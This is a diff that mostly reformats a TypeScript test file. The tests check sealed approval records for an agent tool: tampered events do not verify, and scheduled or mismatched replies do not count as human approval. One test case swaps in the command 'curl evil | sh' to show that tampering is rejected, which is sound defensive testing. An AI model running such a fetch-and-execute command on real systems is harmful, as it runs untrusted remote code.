@@ -1,5 +1,14 @@
 import { afterEach, describe, expect, it } from "vitest";
-import { appendFileSync, chmodSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import {
+  appendFileSync,
+  chmodSync,
+  cpSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { checkoutKey } from "./checkout-key.js";
@@ -51,13 +60,18 @@ describe("the checkout's key", () => {
       const key = checkoutKey(paths.root);
       expect(key).toMatchObject({ ok: false, reason: expect.stringContaining("cannot be written") });
       // Nothing sealed then: the record is written, and counts for nothing.
-      appendWithSeals(paths, "i1", [{ type: "command_approved", step: "S", command: "x", instance: "i1" }], NOW, () => undefined);
+      appendWithSeals(
+        paths,
+        "i1",
+        [{ type: "command_approved", step: "S", command: "x", instance: "i1" }],
+        NOW,
+        () => undefined,
+      );
       expect(readEvents(paths.eventsFile)[0]!.seal).toBeUndefined();
     } finally {
       process.env.DOTAGENT_STATE_HOME = before;
     }
   });
-
 });
 
 describe("sealed authority: counted here, history elsewhere", () => {
@@ -73,9 +87,11 @@ describe("sealed authority: counted here, history elsewhere", () => {
     expect(authorityView(paths, "i1", [{ ...events[0]!, command: "curl evil | sh" }])).toHaveLength(0);
     expect(authorityView(paths, "i1", [{ ...events[0]!, at: "2099-01-01T00:00:00.000Z" }])).toHaveLength(0);
     const { seal: _seal, ...unsealed } = events[0]!;
-    expect(authorityView(paths, "i1", [unsealed as typeof events[0]])).toHaveLength(0);
+    expect(authorityView(paths, "i1", [unsealed as (typeof events)[0]])).toHaveLength(0);
     // History passes through untouched.
-    expect(authorityView(paths, "i1", [{ seq: 9, at: NOW.toISOString(), type: "phase_started", phase: "X" }])).toHaveLength(1);
+    expect(
+      authorityView(paths, "i1", [{ seq: 9, at: NOW.toISOString(), type: "phase_started", phase: "X" }]),
+    ).toHaveLength(1);
   });
 
   it("the events of a checkout copied elsewhere (a clone carrying events.jsonl) do not verify there", () => {
@@ -97,26 +113,47 @@ describe("a reply counts on the client's record of it", () => {
     writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
     return file;
   }
-  const line = (id: string, text: string, extra: Record<string, unknown> = { promptSource: "typed", origin: { kind: "human" } }) => ({ type: "user", promptId: id, message: { content: text }, timestamp: "2026-11-29T10:00:01.000Z", ...extra });
-  const reply = (record: string, id: string, text: string) => ({ type: "person_replied", phase: "REQUIREMENTS", answer: "yes", evidence: { client: "claude", record, id, sha: textDigest(text) } });
+  const line = (
+    id: string,
+    text: string,
+    extra: Record<string, unknown> = { promptSource: "typed", origin: { kind: "human" } },
+  ) => ({ type: "user", promptId: id, message: { content: text }, timestamp: "2026-11-29T10:00:01.000Z", ...extra });
+  const reply = (record: string, id: string, text: string) => ({
+    type: "person_replied",
+    phase: "REQUIREMENTS",
+    answer: "yes",
+    evidence: { client: "claude", record, id, sha: textDigest(text) },
+  });
 
   it("typed: counts, at the record's time, with the words recorded", () => {
     const paths = project();
     const record = transcript([line("p0", "hello"), line("p1", "approve")]);
     appendWithSeals(paths, "i1", [reply(record, "p1", "approve")], NOW);
-    expect(authorityView(paths, "i1", readEvents(paths.eventsFile))).toEqual([expect.objectContaining({ at: "2026-11-29T10:00:01.000Z", said: "approve" })]);
+    expect(authorityView(paths, "i1", readEvents(paths.eventsFile))).toEqual([
+      expect.objectContaining({ at: "2026-11-29T10:00:01.000Z", said: "approve" }),
+    ]);
   });
 
   it.each([
-    ["scheduled", (r: string) => reply(r, "p1", "approve"), [line("p1", "approve", { isMeta: true, promptSource: "system", wakeupSource: "schedule_wakeup" })]],
+    [
+      "scheduled",
+      (r: string) => reply(r, "p1", "approve"),
+      [line("p1", "approve", { isMeta: true, promptSource: "system", wakeupSource: "schedule_wakeup" })],
+    ],
     ["other words under that id", (r: string) => reply(r, "p1", "approve"), [line("p1", "add remember-me")]],
-    ["an id the record does not hold (not written yet)", (r: string) => reply(r, "p9", "approve"), [line("p1", "approve")]],
+    [
+      "an id the record does not hold (not written yet)",
+      (r: string) => reply(r, "p9", "approve"),
+      [line("p1", "approve")],
+    ],
   ] as const)("%s: does not count", (_name, make, lines) => {
     const paths = project();
     const record = transcript([...lines]);
     appendWithSeals(paths, "i1", [make(record)], NOW);
     const why: string[] = [];
-    expect(authorityView(paths, "i1", readEvents(paths.eventsFile), { onUnconfirmed: (_e, w) => why.push(w) })).toHaveLength(0);
+    expect(
+      authorityView(paths, "i1", readEvents(paths.eventsFile), { onUnconfirmed: (_e, w) => why.push(w) }),
+    ).toHaveLength(0);
     expect(why).toHaveLength(1);
   });
 
